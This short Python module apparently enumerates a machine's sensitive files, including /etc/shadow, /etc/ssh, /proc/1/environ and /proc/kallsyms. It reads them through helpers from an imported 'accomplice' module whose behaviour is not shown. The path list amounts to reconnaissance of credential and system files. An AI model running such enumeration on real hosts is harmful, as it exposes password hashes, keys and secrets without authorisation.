"""Reads what the machine says about itself and its users."""

from accomplice import reading, telling


def look():
    for path in (
        "/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/machine-id",
        "/etc/ssh", "/etc/resolv.conf", "/var/log", "/var/spool", "/run", "/boot", "/srv", "/mnt",
        "/opt", "/tmp", "/var/tmp", "/dev/shm", "/sys/class/net", "/proc/net/tcp", "/proc/1",
        "/", "/proc/1/environ", "/proc/kallsyms", "/proc/mounts",
    ):  # fmt: skip
        yield from reading(path)


run_double, run_count = telling(look)
